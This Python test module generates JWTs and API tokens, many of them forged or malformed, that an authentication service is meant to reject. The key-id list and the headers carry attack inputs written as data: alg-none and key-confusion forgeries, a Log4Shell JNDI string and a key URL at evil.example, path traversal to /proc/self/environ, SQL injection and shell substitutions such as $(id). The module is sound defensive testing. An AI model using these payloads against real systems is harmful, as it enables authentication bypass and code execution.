"""Some thousand credentials that must be refused, of many kinds, and the issuer of the good ones
that they are made from. The same seed makes the same credentials, except for their keys and
times."""

import base64
import hashlib
import hmac
import json
import zlib
from collections.abc import Callable, Iterator
from random import Random
from typing import Any, Final, NamedTuple

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa

AUDIENCE: Final = "tocsin"
ISSUER: Final = "https://issuer.example"
KIDS: Final = {"EdDSA": "ed-1", "ES256": "ec-1", "RS256": "rsa-1", "HS256": "oct-1"}
_LETTERS: Final = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
_KIDS_MADE_UP: Final = (
    "", " ", ".", "..", "/", "../../../../dev/null", "..\\..\\windows\\win.ini", "/dev/null",
    "/proc/self/environ", "file:///dev/null", "http://127.0.0.1/keys", "https://evil.example/jwks",
    "' OR '1'='1", "' UNION SELECT 'secret' --", '"; DROP TABLE tokens; --', "ed-1'--", "ed-1 ",
    " ed-1", "ED-1", "ed-1\x00", "ed-1\n", "ed-1/../ec-1", "%65d-1", "ed-1;id", "$(id)", "`id`",
    "{{7*7}}", "${jndi:ldap://evil.example/a}", "__proto__", "constructor", "None", "null", "0",
    "ed-1" * 200, "é", "\u202eed-1", "x" * 4000,
)  # fmt: skip
_AUDIENCES: Final[tuple[Any, ...]] = (
    "", "other", "Tocsin", "tocsin ", "tocsi", "tocsinn", "*", [], ["other"], {}, ["Tocsin", "x"],
    7, True, None, [None], "https://tocsin", ["tocsi", "n"],
)  # fmt: skip
_ISSUERS: Final[tuple[Any, ...]] = (
    "", "https://issuer.example/", "https://evil.example", "HTTPS://issuer.example", None, 7,
    ["https://issuer.example"], {}, "issuer.example",
)  # fmt: skip
_ENDS: Final[tuple[Any, ...]] = (
    None, "", "soon", "9999999999", True, [], {}, -1, 0, float("nan"), 1e300, float("inf"),
    [9999999999],
)  # fmt: skip
_BEGINS: Final[tuple[Any, ...]] = ("", "now", True, [], {}, float("inf"), float("nan"), "1")
_TENANTS: Final[tuple[Any, ...]] = ("", "..", "a/b", "a b", 7, [], {}, "é", "x" * 200, "-a")
_SUBJECTS: Final[tuple[Any, ...]] = (
    None, "", 7, [], {}, True, "x" * 257, "operator", "administrator", "anybody", "broker",
    "user\x00", "user\n7", "\u202euser",
)  # fmt: skip
_RIGHTS: Final[tuple[Any, ...]] = (
    "read:*", {"read": "*"}, ["fly:*"], [7], [""], ["read"], ["read:x"] * 101, ["consume:a:b"],
    [None], 7,
)  # fmt: skip
_CRITS: Final[tuple[Any, ...]] = (
    ["exp"], ["b64"], ["x"], [], "exp", None, {}, True, ["alg"], [1], ["kid", "alg"],
)  # fmt: skip
_TYPES: Final[tuple[Any, ...]] = (
    "", "id+jwt", "dpop+jwt", "logout+jwt", "JWS", None, 7, [], "refresh", "jwt2",
)  # fmt: skip
_WORDS: Final = (
    "null", "undefined", "true", "0", "admin", "operator", "' OR 1=1 --", "../../etc", "{}", "[]",
    "....", "..", ".", "a.b.c", "a.b", "*", "eyJ", "%s%n", "\u0660",
)  # fmt: skip


class Bad(NamedTuple):
    """A credential that must be refused."""

    kind: str
    text: str


def to_text(data: bytes) -> str:
    """Encode bytes in base64 as in a JWT."""
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


class Issuer:
    """An issuer of good JWTs, with a key of each kind."""

    def __init__(self) -> None:
        self.keys: dict[str, Any] = {
            "EdDSA": ed25519.Ed25519PrivateKey.generate(),
            "ES256": ec.generate_private_key(ec.SECP256R1()),
            "RS256": rsa.generate_private_key(public_exponent=65537, key_size=2048),
            "HS256": hashlib.sha256(b"a secret of the issuer").digest(),
        }

    def jwk(self, algorithm: str) -> dict[str, Any]:
        """Return the public key of an algorithm as in the key set; for HS256 the secret."""
        key, kid = self.keys[algorithm], KIDS[algorithm]
        if algorithm == "HS256":
            return {"kty": "oct", "k": to_text(key), "kid": kid}
        makers: dict[str, Callable[..., Any]] = {
            "EdDSA": jwt.algorithms.OKPAlgorithm.to_jwk,
            "ES256": jwt.algorithms.ECAlgorithm.to_jwk,
            "RS256": jwt.algorithms.RSAAlgorithm.to_jwk,
        }
        made: dict[str, Any] = makers[algorithm](key.public_key(), as_dict=True)
        return {**made, "kid": kid}

    def jwks(self, *algorithms: str) -> bytes:
        """Return the set of the keys of these algorithms; without any, of all."""
        wanted = algorithms or tuple(self.keys)
        return json.dumps({"keys": [self.jwk(one) for one in wanted]}).encode()

    def claims(self, wall: float, **more: Any) -> dict[str, Any]:
        """Return the claims of a token that is good at `wall` (unix seconds), with changes; None
        removes a claim."""
        claims = {
            "sub": "user-7", "aud": AUDIENCE, "iss": ISSUER,
            "exp": int(wall) + 600, "nbf": int(wall) - 1, "iat": int(wall) - 1, **more,
        }  # fmt: skip
        return {name: value for name, value in claims.items() if value is not None}

    def token(
        self, wall: float, algorithm: str = "EdDSA", headers: dict[str, Any] | None = None,
        **claims: Any,
    ) -> str:  # fmt: skip
        """Return a token that is good at `wall` (unix seconds), except for the given changes of its
        headers and claims."""
        return self.signed(self.claims(wall, **claims), algorithm, headers or {})

    def signed(self, claims: dict[str, Any], algorithm: str, headers: dict[str, Any]) -> str:
        """Return a token of these claims, signed with the issuer's key for the algorithm."""
        header = {"alg": algorithm, "typ": "JWT", "kid": KIDS[algorithm], **headers}
        parts = [to_text(json.dumps(one).encode()) for one in (header, claims)]
        signing = ".".join(parts).encode()
        maker = jwt.get_algorithm_by_name(algorithm)
        return f"{signing.decode()}.{to_text(maker.sign(signing, self.keys[algorithm]))}"


def unsigned(header: dict[str, Any], claims: dict[str, Any], signature: bytes = b"") -> str:
    """Return a JWT of these parts. It is not signed; `signature` is included as it is."""
    return ".".join(
        (to_text(json.dumps(header).encode()), to_text(json.dumps(claims).encode()),
         to_text(signature))
    )  # fmt: skip


def api_checksum(text: str) -> str:
    """Return the last letters of an API token with this beginning. They are a public checksum,
    which an attacker can compute."""
    number, letters = zlib.crc32(text.encode()), ""
    for _ in range(6):
        number, digit = divmod(number, 62)
        letters = _LETTERS[digit] + letters
    return letters


def bad_credentials(
    issuer: Issuer, wall: float, *, token: str, api_token: str, tickets: list[str], seed: int = 5
) -> list[Bad]:
    """Return all bad credentials, distinct. `token`: the broker's; `api_token`: a good one;
    `tickets`: used ones. They are bad at `wall` (unix seconds), and for hours after it."""
    rng = Random(seed)
    made: dict[str, Bad] = {}
    for source in (
        _without_signature(issuer, wall),
        _confused(issuer, wall),
        _of_strangers(issuer, wall),
        _with_claims(issuer, wall),
        _with_headers(issuer, wall),
        _damaged(issuer, wall, rng),
        _api_tokens(api_token, rng),
        _words(token, issuer.token(wall), api_token),
        (Bad("ticket replayed", one) for one in tickets),
        _tickets(tickets, rng),
    ):
        for bad in source:
            made.setdefault(bad.text, bad)
    for good in (token, api_token):
        made.pop(good, None)
    return list(made.values())


def _without_signature(issuer: Issuer, wall: float) -> Iterator[Bad]:
    claims = issuer.claims(wall)
    algorithms: tuple[Any, ...] = (
        "none",
        "None",
        "NONE",
        "nOnE",
        "",
        None,
        "none ",
        "HS0",
        0,
        [],
        {},
        True,
    )
    for alg in algorithms:
        for more in ({}, {"kid": "ed-1"}, {"kid": None}, {"typ": "JWT", "kid": "oct-1"}):
            for signature in (b"", b"\0" * 64):
                yield Bad("alg none", unsigned({"alg": alg, **more}, claims, signature))
    head, body, _ = issuer.token(wall).split(".")
    yield Bad("alg none", f"{head}.{body}.")
    yield Bad("alg none", f"{head}.{body}")


def _confused(issuer: Issuer, wall: float) -> Iterator[Bad]:
    """Yield tokens with the public key as the secret of an HMAC (CVE-2015-9235 and similar ones),
    and tokens that name another algorithm or key than they are signed with."""
    claims = issuer.claims(wall)
    for algorithm in ("EdDSA", "ES256", "RS256"):
        public = issuer.keys[algorithm].public_key()
        spki = serialization.PublicFormat.SubjectPublicKeyInfo
        pem = public.public_bytes(serialization.Encoding.PEM, spki)
        secrets = [
            pem, pem.strip(), pem.replace(b"\n", b"\r\n"),
            public.public_bytes(serialization.Encoding.DER, spki),
            json.dumps(issuer.jwk(algorithm)).encode(),
            *(str(value).encode() for value in issuer.jwk(algorithm).values()),
        ]  # fmt: skip
        for secret in secrets:
            for alg, digest in (("HS256", "sha256"), ("HS384", "sha384"), ("HS512", "sha512")):
                for kid in (KIDS[algorithm], "oct-1", None):
                    header = {"alg": alg, "typ": "JWT", "kid": kid}
                    signing = unsigned(header, claims).rstrip(".")
                    signature = hmac.digest(secret, signing.encode(), digest)
                    yield Bad("key confusion", f"{signing}.{to_text(signature)}")
    for made_with in issuer.keys:
        for said in ("EdDSA", "ES256", "RS256", "HS256", "PS256", "ES384", "RS512", "Ed25519"):
            for kid in KIDS.values():
                if said != made_with or kid != KIDS[made_with]:
                    headers = {"alg": said, "kid": kid}
                    yield Bad("other family", issuer.signed(claims, made_with, headers))


def _of_strangers(issuer: Issuer, wall: float) -> Iterator[Bad]:
    """Yield tokens signed with the keys of another issuer, most of which name or include a key in
    their header."""
    stranger = Issuer()
    stranger.keys["HS256"] = b"a secret of somebody else......."
    for algorithm in stranger.keys:
        jwk = stranger.jwk(algorithm)
        for more in (
            {}, {"jwk": jwk}, {"jku": "https://evil.example/jwks.json"},
            {"x5u": "https://evil.example/cert.pem"}, {"x5c": [to_text(b"certificate")]},
            {"jwk": jwk, "kid": None}, {"jwk": issuer.jwk(algorithm)}, {"x5t": "AAAA"},
        ):  # fmt: skip
            yield Bad("embedded key", stranger.token(wall, algorithm, more))


def _with_claims(issuer: Issuer, wall: float) -> Iterator[Bad]:
    def made(kind: str, **claims: Any) -> Iterator[Bad]:
        for algorithm in ("EdDSA", "ES256"):
            yield Bad(kind, issuer.token(wall, algorithm, **claims))

    for aud in _AUDIENCES:
        yield from made("wrong audience", aud=aud)
    for iss in _ISSUERS:
        yield from made("wrong issuer", iss=iss)
    for ago in (0, 1, 5, 29, 30, 60, 3600, 86_400, 10**9):
        yield from made("expired", exp=int(wall) - ago)
    for exp in (*_ENDS, wall - 0.5):
        yield from made("no end", exp=exp)
    for ahead in (3600 * 10, 86_400, 10**8):
        yield from made("not yet valid", nbf=int(wall) + ahead)
    for nbf in _BEGINS:
        yield from made("not yet valid", nbf=nbf)
    for sub in _SUBJECTS:
        yield from made("no subject", sub=sub)
    for tenant in _TENANTS:
        yield from made("no tenant", tocsin_tenant=tenant)
    for rights in _RIGHTS:
        yield from made("no rights", tocsin_rights=rights)


def _with_headers(issuer: Issuer, wall: float) -> Iterator[Bad]:
    for crit in _CRITS:
        for algorithm in ("EdDSA", "ES256", "RS256", "HS256"):
            headers = {"crit": crit, "exp": int(wall) + 60, "x": 1}
            yield Bad("crit", issuer.token(wall, algorithm, headers))
    for b64 in (True, False, "false", 0):
        yield Bad("crit", issuer.token(wall, headers={"b64": b64}))
    for kid in _KIDS_MADE_UP:
        for algorithm in ("EdDSA", "HS256"):
            yield Bad("made-up kid", issuer.token(wall, algorithm, {"kid": kid}))
    for odd in (None, 0, 1, True, [], ["ed-1"], {}, {"ed-1": 1}, 1.5):
        yield Bad("made-up kid", issuer.token(wall, headers={"kid": odd}))
    for typ in _TYPES:
        yield Bad("other purpose", issuer.token(wall, headers={"typ": typ}))


def _damaged(issuer: Issuer, wall: float, rng: Random) -> Iterator[Bad]:
    good = issuer.token(wall)
    for end in range(1, len(good)):
        yield Bad("truncated", good[:end])
    for begin in range(1, 60):
        yield Bad("truncated", good[begin:])
    head, body, signature = good.split(".")
    raw = base64.urlsafe_b64decode(signature + "==")
    for bit in range(8 * len(raw)):
        other = bytearray(raw)
        other[bit // 8] ^= 1 << bit % 8
        yield Bad("flipped bit", f"{head}.{body}.{to_text(bytes(other))}")
    for place in range(len(good)):
        letter = rng.choice(_LETTERS)
        if letter != good[place] and good[place] != ".":
            yield Bad("exchanged letter", good[:place] + letter + good[place + 1 :])
    for letter in "BCDEFGHIJKLMNOPQRSTUVWXYZ":  # the unused bits of the last letter
        if letter != signature[-1]:
            yield Bad("exchanged letter", good[:-1] + letter)
    for other_good in (issuer.token(wall, sub="user-8"), issuer.token(wall, "ES256")):
        other_head, other_body, other_signature = other_good.split(".")
        for mixed in (
            f"{head}.{other_body}.{signature}",
            f"{other_head}.{body}.{signature}",
            f"{head}.{body}.{other_signature}",
        ):
            if mixed != good:
                yield Bad("mixed", mixed)
    for text in (good + "=", good + "==", good + ".", good + ".x", "." + good, good + good):
        yield Bad("mixed", text)


def _api_tokens(good: str, rng: Random) -> Iterator[Bad]:
    mark, token_id, secret = good.split("_")
    for end in range(1, len(good)):
        yield Bad("truncated", good[:end])
    for _ in range(150):  # the right prefix and a right checksum
        begun = f"{mark}_{token_id}_{''.join(rng.choices(_LETTERS, k=24))}"
        yield Bad("wrong secret", begun + api_checksum(begun))
    for place in range(24):
        letters = list(secret[:24])
        letters[place] = "A" if letters[place] != "A" else "B"
        begun = f"{mark}_{token_id}_{''.join(letters)}"
        yield Bad("wrong secret", begun + api_checksum(begun))
    for _ in range(150):
        other = "".join(rng.choices(_LETTERS[:10] + _LETTERS[36:], k=8))
        begun = f"{mark}_{other}_{secret[:24]}"
        yield Bad("unknown token", begun + api_checksum(begun))
    for place in range(len(good)):
        yield Bad("mistyped", good[:place] + "~" + good[place + 1 :])
    for text in (
        good.upper(), good.lower(), good.swapcase(), good[4:], good.replace("_", "-"),
        good.replace("tcs_", "tct_"), good.replace("tcs_", "tcp_"), good + good,
        hashlib.sha256(good.encode()).hexdigest(), f"tcs_{secret}_{token_id}",
    ):  # fmt: skip
        yield Bad("mistyped", text)


def _tickets(used: list[str], rng: Random) -> Iterator[Bad]:
    for _ in range(60):
        yield Bad("ticket made up", "tct_" + "".join(rng.choices(_LETTERS, k=32)))
    for ticket in used[:3]:
        for text in (ticket[4:], f"tcs_{ticket[4:]}", ticket.upper(), ticket + "x", ticket[:-1]):
            yield Bad("ticket made up", text)
    yield Bad("ticket made up", "tct_")


def _words(token: str, good: str, api_token: str) -> Iterator[Bad]:
    for one in (token, good, api_token):
        for text in (
            f"{one} x", f"x {one}", one.replace(one[5], " ", 1), f'"{one}"', f"{one},{one}",
            f"{one}\t{one}", f"{one}é", f"\u00a0{one}", f"{one}\u200b", f"{one}%00",
            f"Bearer {one}", f"Basic {one}", one[::-1], f"{one};", f"{one}\ufeff",
        ):  # fmt: skip
            yield Bad("words", text)
        yield Bad("words", "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in one))
    for end in range(1, len(token)):
        yield Bad("truncated", token[:end])
    for place in range(len(token)):
        yield Bad("mistyped", token[:place] + "~" + token[place + 1 :])
    for length in (100, 1000, 4000, 7000):
        yield Bad("over-long", "x" * length)
        yield Bad("over-long", f"tcs_{'x' * length}")
        yield Bad("over-long", f"{'a' * length}.{'b' * length}.c"[:8000])
    for word in _WORDS:
        yield Bad("words", word)
